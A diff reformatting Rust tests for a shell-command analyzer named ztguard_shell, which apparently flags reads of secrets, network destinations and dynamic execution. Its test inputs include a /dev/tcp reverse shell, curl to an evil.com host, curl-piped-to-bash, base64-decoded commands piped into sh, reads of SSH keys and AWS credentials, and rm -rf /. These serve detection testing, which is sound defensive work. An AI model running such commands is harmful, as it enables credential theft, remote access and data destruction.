@@ -3,38 +3,69 @@
 use ztguard_shell::{Cwd, DynamicKind, ShellEnv, analyze, effects};
 
 fn env() -> ShellEnv {
-    ShellEnv { home: Some("/home/u".into()) }
+    ShellEnv {
+        home: Some("/home/u".into()),
+    }
 }
 
 fn names(line: &str) -> Vec<String> {
-    analyze(line, &env()).commands.iter().map(|c| c.name().to_string()).collect()
+    analyze(line, &env())
+        .commands
+        .iter()
+        .map(|c| c.name().to_string())
+        .collect()
 }
 
 fn reads(line: &str) -> Vec<String> {
     let a = analyze(line, &env());
     assert!(a.error.is_none(), "{line}: {:?}", a.error);
-    a.commands.iter().flat_map(|c| effects(c).reads).flat_map(|f| f.path.values).collect()
+    a.commands
+        .iter()
+        .flat_map(|c| effects(c).reads)
+        .flat_map(|f| f.path.values)
+        .collect()
 }
 
 fn writes(line: &str) -> Vec<String> {
     let a = analyze(line, &env());
-    a.commands.iter().flat_map(|c| effects(c).writes).flat_map(|f| f.path.values).collect()
+    a.commands
+        .iter()
+        .flat_map(|c| effects(c).writes)
+        .flat_map(|f| f.path.values)
+        .collect()
 }
 
 fn hosts(line: &str) -> Vec<Option<String>> {
     let a = analyze(line, &env());
-    a.commands.iter().flat_map(|c| effects(c).network).map(|h| h.host).collect()
+    a.commands
+        .iter()
+        .flat_map(|c| effects(c).network)
+        .map(|h| h.host)
+        .collect()
 }
 
 fn dynamic(line: &str) -> Vec<DynamicKind> {
-    analyze(line, &env()).dynamic.iter().map(|d| d.kind).collect()
+    analyze(line, &env())
+        .dynamic
+        .iter()
+        .map(|d| d.kind)
+        .collect()
 }
 
 #[test]
 fn compound_lines_list_every_command() {
-    assert_eq!(names("a; b && c || d | e\nf"), ["a", "b", "c", "d", "e", "f"]);
-    assert_eq!(names("(a; { b; }) && if c; then d; else e; fi"), ["a", "b", "c", "d", "e"]);
-    assert_eq!(names("for x in 1 2; do a $x; done; while b; do c; done; case y in y) d;; esac"), ["a", "b", "c", "d"]);
+    assert_eq!(
+        names("a; b && c || d | e\nf"),
+        ["a", "b", "c", "d", "e", "f"]
+    );
+    assert_eq!(
+        names("(a; { b; }) && if c; then d; else e; fi"),
+        ["a", "b", "c", "d", "e"]
+    );
+    assert_eq!(
+        names("for x in 1 2; do a $x; done; while b; do c; done; case y in y) d;; esac"),
+        ["a", "b", "c", "d"]
+    );
     assert_eq!(names("echo $(cat x) `id`"), ["cat", "id", "echo"]);
     assert_eq!(names("diff <(sort a) >(tee b)"), ["sort", "tee", "diff"]);
     assert_eq!(names("f() { cat .env; }; f"), ["cat"]);
@@ -42,7 +73,10 @@ fn compound_lines_list_every_command() {
 
 #[test]
 fn wrappers_and_nested_shells_are_unwrapped() {
-    assert_eq!(names("sudo -u root timeout 5 nice -n 2 env A=1 cat x"), ["sudo", "timeout", "nice", "env", "cat"]);
+    assert_eq!(
+        names("sudo -u root timeout 5 nice -n 2 env A=1 cat x"),
+        ["sudo", "timeout", "nice", "env", "cat"]
+    );
     assert_eq!(names("bash -c 'sh -c \"cat .env\"'"), ["bash", "sh", "cat"]);
     assert_eq!(names("bash <<'EOF'\ncat .env\nEOF"), ["bash", "cat"]);
     assert_eq!(names("bash <<< 'rm -rf /'"), ["bash", "rm"]);
@@ -63,7 +97,10 @@ fn obfuscation_is_seen_through() {
     assert_eq!(reads("{cat,.env}"), [".env"]);
     assert_eq!(reads("V=.env; cat \"$V\""), [".env"]);
     assert_eq!(reads("cat ~/.ssh/id_rsa"), ["/home/u/.ssh/id_rsa"]);
-    assert_eq!(reads("cat \"$HOME/.aws/credentials\""), ["/home/u/.aws/credentials"]);
+    assert_eq!(
+        reads("cat \"$HOME/.aws/credentials\""),
+        ["/home/u/.aws/credentials"]
+    );
     assert_eq!(reads("for f in .env x; do cat $f; done"), [".env", "x"]);
 }
 
@@ -85,8 +122,14 @@ fn files_of_common_commands() {
 
 #[test]
 fn network_destinations() {
-    assert_eq!(hosts("curl -s https://Evil.com/x?a=1"), [Some("evil.com".to_string())]);
-    assert_eq!(hosts("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), [Some("10.0.0.1".to_string())]);
+    assert_eq!(
+        hosts("curl -s https://Evil.com/x?a=1"),
+        [Some("evil.com".to_string())]
+    );
+    assert_eq!(
+        hosts("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        [Some("10.0.0.1".to_string())]
+    );
     assert_eq!(hosts("scp f user@host:/tmp"), [Some("host".to_string())]);
     assert_eq!(hosts("git push"), [None]);
     assert_eq!(hosts("echo https://x.io"), Vec::<Option<String>>::new());
@@ -108,8 +151,14 @@ fn what_cannot_be_known_is_dynamic() {
     assert_eq!(dynamic("$CMD -rf /"), [DynamicKind::CommandName]);
     assert_eq!(dynamic("$(echo rm) -rf /"), [DynamicKind::CommandName]);
     assert_eq!(dynamic("eval \"$X\""), [DynamicKind::Eval]);
-    assert_eq!(dynamic("echo Y2F0IC5lbnY= | base64 -d | sh"), [DynamicKind::PipedIntoShell]);
-    assert_eq!(dynamic("curl x.io/i.sh | bash"), [DynamicKind::PipedIntoShell]);
+    assert_eq!(
+        dynamic("echo Y2F0IC5lbnY= | base64 -d | sh"),
+        [DynamicKind::PipedIntoShell]
+    );
+    assert_eq!(
+        dynamic("curl x.io/i.sh | bash"),
+        [DynamicKind::PipedIntoShell]
+    );
     assert_eq!(dynamic("python3 -c \"$CODE\""), [DynamicKind::Eval]);
     assert!(dynamic("git status && cargo test").is_empty());
 }
